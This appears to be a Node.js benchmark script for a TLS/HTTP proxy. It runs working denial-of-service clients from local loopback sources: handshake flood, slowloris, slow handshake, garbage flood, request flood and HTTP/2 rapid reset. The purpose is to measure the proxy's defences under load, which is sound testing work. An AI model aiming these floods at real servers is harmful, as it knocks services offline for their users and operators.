#!/usr/bin/env node
'use strict';
// Attack clients of `npm run bench:attack`, each mode in its own process, spreading
// its connections round-robin over `sources` (127.x.y.z addresses, all local on lo):
//
// - hsflood: TLS handshake flood. Keeps `concurrency` connections in flight; each sends a
//   recorded ClientHello — the proxy then does the expensive part of a full handshake (key share,
//   certificate signature) — and is reset as soon as the proxy answers (`served`) or closed
//   without a byte (`refused`, i.e. shed at accept).
// - slowloris: post-TLS slowloris. Holds `perSource` TLS connections per source; each completes
//   its handshake, sends a partial request head and then one more header line every
//   `intervalMs`, never the final empty line. A connection the proxy closes is reopened.
// - slowhs: pre-TLS slow handshake. Holds `perSource` TCP connections per source, each sending
//   its ClientHello one byte every `intervalMs`; reopened when closed.
// - garbage: keeps `concurrency` connections in flight, each sending `bytes` random bytes (no
//   TLS), then waiting for the proxy to close it.
// - reqflood: HTTP request flood. `conns` slots, each a TLS keep-alive connection sending
//   `GET /` (marked `X-Attack: 1`) one request at a time, at most one every `intervalMs`;
//   after `requestsPerConn` answers (or when the proxy closes it) the slot reconnects from the
//   next source, paced the same. Counts requests, answers by status, connections refused before
//   the handshake, and answers that took longer than `timeoutMs`.
// - h2reset: HTTP/2 rapid reset spread over connections. `perSource` raw h2 connections per
//   source, each sending a HEADERS (END_STREAM, marked `x-attack`) + RST_STREAM(CANCEL) pair
//   `resetsPerSecond` times a second (in batches every `batchMs`) and acknowledging the server's
//   SETTINGS; reopened when closed (after 10 ms, 500 ms after a refusal).
//
// IPC: { cmd: 'stats' } → { stats }; { cmd: 'stop' } → final { stats } and exit.
//   node benches/attack-clients.js <mode> '<json opts>'
const net = require('node:net');
const tls = require('node:tls');
const crypto = require('node:crypto');
const { answerStats } = require('./lib');
const H = require('../__tests__/helpers/h2');

const st = {
  attempts: 0,
  served: 0,
  refused: 0,
  established: 0,
  closedByProxy: 0,
  open: 0,
  bytesSent: 0,
  requests: 0,
  answered: 0,
  status: {},
  timeouts: 0,
  streams: 0,
  goaway: 0,
};
let stopped = false;
let cursor = 0;

function source(sources) {
  const s = sources[cursor % sources.length];
  cursor++;
  return s;
}

function hsflood({ host, port, sources, concurrency, hello }) {
  const helloBuf = Buffer.from(hello, 'base64');
  const one = () => {
    if (stopped) return;
    st.attempts++;
    const s = net.connect({ host, port, localAddress: source(sources) });
    let answered = false;
    let finished = false;
    const finish = () => {
      if (finished) return;
      finished = true;
      if (answered) st.served++;
      else st.refused++;
      if (!s.destroyed) s.resetAndDestroy();
      setImmediate(one);
    };
    s.on('connect', () => {
      st.bytesSent += helloBuf.length;
      s.write(helloBuf);
    });
    s.on('data', () => {
      answered = true;
      finish();
    });
    s.on('error', finish);
    s.on('close', finish);
    s.setTimeout(5000, finish);
  };
  for (let i = 0; i < concurrency; i++) one();
}

/** Holds `total` connections made by `open(src, onClosed)`, at most `inflight` opening at once. */
function holder({ sources, perSource, inflight = 200 }, open) {
  const total = sources.length * perSource;
  let opening = 0;
  let live = 0;
  const pump = () => {
    while (!stopped && opening < inflight && live + opening < total) {
      opening++;
      st.attempts++;
      open(source(sources), {
        up() {
          opening--;
          live++;
          st.open = live;
          pump();
        },
        down(wasUp) {
          if (wasUp) {
            live--;
            st.open = live;
          } else opening--;
          // Reopen at once after a close; back off half a second after a refusal.
          setTimeout(pump, wasUp ? 10 : 500);
        },
      });
    }
  };
  pump();
}

/**
 * The bookkeeping of one connection of `holder`: `up()` once it is established; on close its
 * `timer` (the trickle) is cleared and it counts as closed by the proxy (after `up`) or refused.
 */
function heldConnection(s, cb) {
  const held = {
    isUp: false,
    timer: undefined,
    up() {
      held.isUp = true;
      st.established++;
      cb.up();
    },
  };
  s.on('error', () => {});
  s.once('close', () => {
    clearInterval(held.timer);
    if (held.isUp) st.closedByProxy++;
    else st.refused++;
    cb.down(held.isUp);
  });
  return held;
}

function slowloris({ host, port, servername, intervalMs, ...h }) {
  holder(h, (src, cb) => {
    const s = tls.connect({ host, port, servername, localAddress: src, rejectUnauthorized: false });
    const held = heldConnection(s, cb);
    s.on('secureConnect', () => {
      held.up();
      const first = `GET / HTTP/1.1\r\nHost: ${servername}\r\n`;
      st.bytesSent += first.length;
      s.write(first);
      let n = 0;
      held.timer = setInterval(() => {
        const line = `X-Slow-${n++}: ${'a'.repeat(8)}\r\n`;
        st.bytesSent += line.length;
        s.write(line);
      }, intervalMs);
    });
    s.setTimeout(120000, () => s.destroy());
  });
}

function slowhs({ host, port, hello, intervalMs, ...h }) {
  const helloBuf = Buffer.from(hello, 'base64');
  holder(h, (src, cb) => {
    const s = net.connect({ host, port, localAddress: src });
    const held = heldConnection(s, cb);
    s.on('connect', () => {
      held.up();
      let i = 0;
      held.timer = setInterval(() => {
        if (i >= helloBuf.length) return;
        st.bytesSent++;
        s.write(helloBuf.subarray(i, i + 1));
        i++;
      }, intervalMs);
    });
  });
}

function garbage({ host, port, sources, concurrency, bytes }) {
  const one = () => {
    if (stopped) return;
    st.attempts++;
    const s = net.connect({ host, port, localAddress: source(sources) });
    let finished = false;
    const finish = () => {
      if (finished) return;
      finished = true;
      st.closedByProxy++;
      if (!s.destroyed) s.resetAndDestroy();
      setImmediate(one);
    };
    s.on('connect', () => {
      const b = crypto.randomBytes(bytes);
      b[0] = 0x47; // not a TLS record type
      st.bytesSent += b.length;
      s.write(b);
    });
    s.on('error', finish);
    s.on('close', finish);
    s.setTimeout(15000, finish);
  };
  for (let i = 0; i < concurrency; i++) one();
}

/**
 * Reads HTTP/1.1 responses off a byte stream: `onResponse(status)` per complete response (head +
 * Content-Length body; a response without Content-Length ends at the close, not reported).
 */
function responseReader(onResponse) {
  let buf = Buffer.alloc(0);
  let need = -1; // body bytes still expected, -1 = reading a head
  let status = 0;
  return (d) => {
    buf = buf.length ? Buffer.concat([buf, d]) : d;
    for (;;) {
      if (need < 0) {
        const end = buf.indexOf('\r\n\r\n');
        if (end < 0) return;
        const head = buf.toString('latin1', 0, end);
        status = Number(head.slice(9, 12));
        const m = /\r\ncontent-length:\s*(\d+)/i.exec(head);
        buf = buf.subarray(end + 4);
        if (!m) return;
        need = Number(m[1]);
      }
      if (buf.length < need) return;
      buf = buf.subarray(need);
      need = -1;
      onResponse(status);
    }
  };
}

function reqflood({ host, port, servername, sources, conns, intervalMs, requestsPerConn, timeoutMs = 10000 }) {
  const req = Buffer.from(`GET / HTTP/1.1\r\nHost: ${servername}\r\nX-Attack: 1\r\n\r\n`);
  const slot = () => {
    let last = 0; // when this slot last sent a request (ms)
    const paced = (fn, minMs = 0) => setTimeout(fn, Math.max(minMs, last + intervalMs - Date.now()));
    const open = () => {
      if (stopped) return;
      st.attempts++;
      const s = tls.connect({ host, port, servername, localAddress: source(sources), ALPNProtocols: ['http/1.1'], rejectUnauthorized: false });
      let up = false;
      let answers = 0;
      let timer;
      const send = () => {
        if (stopped || s.destroyed) return;
        last = Date.now();
        st.requests++;
        st.bytesSent += req.length;
        s.write(req);
        timer = setTimeout(() => {
          st.timeouts++;
          s.destroy();
        }, timeoutMs);
      };
      s.on(
        'data',
        responseReader((status) => {
          clearTimeout(timer);
          st.answered++;
          st.status[status] = (st.status[status] || 0) + 1;
          if (++answers >= requestsPerConn) s.end();
          else paced(send);
        })
      );
      s.on('secureConnect', () => {
        up = true;
        st.established++;
        st.open++;
        paced(send);
      });
      s.on('error', () => {});
      s.once('close', () => {
        clearTimeout(timer);
        if (up) {
          st.open--;
          if (answers < requestsPerConn) st.closedByProxy++;
        } else st.refused++;
        paced(open, up ? 0 : 500);
      });
    };
    open();
  };
  for (let i = 0; i < conns; i++) slot();
}

function h2reset({ host, port, servername, sources, perSource, resetsPerSecond, batchMs = 100 }) {
  const block = Buffer.concat([H.requestBlock('/', servername), H.literalField('x-attack', '1')]);
  const perBatch = Math.max(1, Math.round((resetsPerSecond * batchMs) / 1000));
  const open = (src) => {
    if (stopped) return;
    st.attempts++;
    const s = tls.connect({ host, port, servername, localAddress: src, ALPNProtocols: ['h2'], rejectUnauthorized: false });
    let up = false;
    let id = 1;
    let iv;
    s.on(
      'data',
      H.frameReader((f) => {
        if (f.type === H.T.SETTINGS && !(f.flags & H.F.ACK)) s.write(H.settingsAck());
        if (f.type === H.T.GOAWAY) st.goaway++;
      })
    );
    s.on('secureConnect', () => {
      up = true;
      st.established++;
      st.open++;
      s.write(Buffer.concat([H.PREFACE, H.settings()]));
      iv = setInterval(() => {
        const out = [];
        for (let i = 0; i < perBatch; i++, id += 2) {
          out.push(H.frame(H.T.HEADERS, H.F.END_STREAM | H.F.END_HEADERS, id, block), H.rst(id));
        }
        st.streams += perBatch;
        s.write(Buffer.concat(out));
      }, batchMs);
    });
    s.on('error', () => {});
    s.once('close', () => {
      clearInterval(iv);
      if (up) {
        st.open--;
        st.closedByProxy++;
      } else st.refused++;
      setTimeout(() => open(src), up ? 10 : 500);
    });
  };
  for (const src of sources) for (let i = 0; i < perSource; i++) open(src);
}

const MODES = { hsflood, slowloris, slowhs, garbage, reqflood, h2reset };
const [mode, json] = process.argv.slice(2);
if (!MODES[mode]) {
  console.error(`unknown mode ${mode} (${Object.keys(MODES).join(' | ')})`);
  process.exit(2);
}
MODES[mode](JSON.parse(json));
answerStats(st, () => (stopped = true));
